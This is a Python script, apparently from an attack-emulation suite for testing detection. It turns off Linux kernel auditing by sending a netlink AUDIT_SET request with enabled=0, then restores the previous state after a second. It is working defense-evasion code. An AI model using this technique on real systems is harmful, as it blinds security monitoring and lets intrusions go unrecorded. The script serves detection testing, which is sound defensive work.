#!/usr/bin/python3
# vigil-emulation: attack
# technique: T1562.012 Impair Defenses: Disable or Modify Linux Audit System
# tactic: defense-evasion
# what: turns kernel auditing off the way `auditctl -e 0` does: an AUDIT_SET request with
#   enabled=0 over the audit netlink socket; the previous state (read with AUDIT_GET
#   first) is restored within a second. When auditing is locked (enabled=2) the kernel
#   refuses; the request is still made.
# report: a request to disable the kernel audit system (netlink AUDIT_SET enabled=0), from
#   a process that is not the audit daemon.
# expect: audit
import socket
import struct
import sys
import time

NETLINK_AUDIT, AUDIT_GET, AUDIT_SET = 9, 1000, 1001
NLM_F_REQUEST, NLM_F_ACK = 0x1, 0x4
AUDIT_STATUS_ENABLED = 0x1


def request(sock: socket.socket, kind: int, payload: bytes, seq: int,
            until: int) -> list[tuple[int, bytes]]:
    """Send one request; collect replies until one of type `until` (2: the ack)."""
    flags = NLM_F_REQUEST | (NLM_F_ACK if until == 2 else 0)
    sock.send(struct.pack("=IHHII", 16 + len(payload), kind, flags, seq, 0) + payload)
    out = []
    sock.settimeout(2)
    try:
        while True:
            data = sock.recv(8192)
            length, mtype = struct.unpack_from("=IH", data)
            out.append((mtype, data[16:length]))
            if mtype == until:
                break
    except socket.timeout:
        pass
    return out


def set_enabled(sock: socket.socket, value: int, seq: int) -> int:
    replies = request(sock, AUDIT_SET, struct.pack("=8I", AUDIT_STATUS_ENABLED, value,
                                                   0, 0, 0, 0, 0, 0), seq, 2)
    for mtype, body in replies:
        if mtype == 2:
            return struct.unpack_from("=i", body)[0]
    return 0


def main() -> int:
    try:
        sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_AUDIT)
        sock.bind((0, 0))
    except OSError as exc:
        print(f"skipped: no audit netlink ({exc})")
        return 77
    enabled = None
    for mtype, body in request(sock, AUDIT_GET, b"", 1, AUDIT_GET):
        if mtype == AUDIT_GET:
            enabled = struct.unpack_from("=8I", body)[1]
    print("audit enabled before:", enabled)
    err = set_enabled(sock, 0, 2)
    print("AUDIT_SET enabled=0:", "ok" if err == 0 else f"refused ({err})")
    time.sleep(1)
    if enabled in (0, 1) and err == 0:
        set_enabled(sock, enabled, 3)
        print("restored enabled =", enabled)
    return 0


if __name__ == "__main__":
    sys.exit(main())
